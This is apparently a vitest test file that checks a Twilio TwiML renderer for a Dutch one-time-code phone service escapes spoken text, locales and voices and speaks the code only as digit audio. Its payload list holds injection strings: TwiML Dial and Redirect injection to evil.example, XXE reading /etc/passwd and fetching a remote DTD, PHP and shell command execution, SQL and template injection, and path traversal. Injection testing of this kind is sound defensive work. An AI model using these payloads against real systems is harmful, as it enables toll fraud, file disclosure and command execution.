import fc from 'fast-check'
import { XmlDocument } from 'libxml2-wasm'
import { describe, expect, it } from 'vitest'
import { nextTurn } from '../../src/calls/dialogue.ts'
import { locales } from '../../src/calls/prompts/catalogue.ts'
import { renderTwiml } from '../../src/calls/twiml/render-twiml.ts'
import { recordedSpeech, spokenSpeech, usualVoices } from '../../src/calls/twiml/speech.ts'
import { assertTwiml, outlineOf } from '../contract/twilio/twiml-schema.ts'

const turnUrl = (at: string) => `https://otp.example.nl/turn/${at}`
const { steps } = nextTurn({ gate: { kind: 'key', digit: '4' }, code: '482913' }, 'answer', null)

const said = (text: string, locale = 'nl-NL', voice = 'Polly.Laura-Neural') =>
  renderTwiml(
    { locale, steps },
    { speech: spokenSpeech({ ...usualVoices, 'nl-NL': voice }, () => text), turnUrl },
  )
const harmless = outlineOf(said('Goedendag'))

const payloads = [
  '</Say><Dial>+31900123456</Dial><Say>',
  '</Say></Gather><Redirect>https://evil.example</Redirect><Gather><Say>',
  '"/><Play>https://evil.example/x.wav</Play><Say voice="',
  "' onload='x",
  '<![CDATA[</Say><Dial>+31900123456</Dial>]]>',
  ']]>',
  '<!-- ',
  '-->',
  '<?xml version="1.0"?>',
  '<?php system("id") ?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Say>&e;</Say>',
  '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
  '&e;',
  '&lt;Dial&gt;',
  '&#60;Dial&#62;',
  '&#x3c;Dial&#x3e;',
  '&#0;',
  '&',
  '&amp',
  '<xi:include href="file:///etc/passwd" parse="text"/>',
  '<break time="600s"/>',
  '<prosody rate="1%">',
  'one\u0000two',
  '\u0001\u0002\u0008\u000b\u000c\u001f\u007f\u0085',
  '\ud800',
  '\udc00\ud800',
  '\ufffe\uffff\ufeff',
  '\u202e\u200b\u2028\u2029',
  '\r\n\r\nHTTP/1.1 200 OK\r\n\r\n',
  '%00%0d%0a%3cDial%3e',
  '＜Dial＞',
  '👩‍👩‍👧‍👧'.repeat(20),
  'Ω≈ç√∫˜µ≤≥÷',
  '表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀',
  "'; DROP TABLE calls;--",
  '$(touch /tmp/x)`id`',
  '{{7*7}}#{7*7}',
  '../../../etc/passwd',
  'x'.repeat(1_000),
  '',
]

describe('a text that is spoken', () => {
  it.each(payloads)('stays text: %j', (text) => {
    expect(() => assertTwiml(said(text))).not.toThrow()
    expect(outlineOf(said(text))).toBe(harmless)
  })

  it('stays text, whatever it is', () => {
    const piece = fc.oneof(fc.constantFrom(...payloads), fc.string({ unit: 'binary' }))
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 4 }), (pieces) => {
        expect(outlineOf(said(pieces.join('')))).toBe(harmless)
      }),
      { seed: 20260105, numRuns: 1_000 },
    )
  })

  it('is heard as it was written', () => {
    const text = `Jansen & Zn <"BV"> 'één'`
    const document = XmlDocument.fromString(said(text))
    expect(document.get('//Say')?.content).toBe(text)
    document.dispose()
  })
})

const recorded = (locale: string) =>
  renderTwiml({ locale, steps }, { speech: recordedSpeech('https://otp.example.nl'), turnUrl })

it.each(payloads)('a locale or a voice opens no element: %j', (text) => {
  expect(outlineOf(said('Goedendag', text))).toBe(harmless)
  expect(outlineOf(said('Goedendag', 'nl-NL', text))).toBe(harmless)
  expect(recorded(text)).toBe(recorded('nl-NL'))
})

it.each(locales)('nothing but a digit prompt holds the code: %s', (locale) => {
  const code = '482913'
  const turn = nextTurn({ gate: { kind: 'none' }, code }, 'answer', null)
  const speech = recordedSpeech('https://otp.example.nl')
  const twiml = renderTwiml({ locale, steps: turn.steps }, { speech, turnUrl })

  const digits = [...twiml.matchAll(/digit-(\d)\.wav/g)].map(([, digit]) => digit)
  expect(digits.join('')).toBe(code + code)
  expect(twiml).not.toContain(code)
})
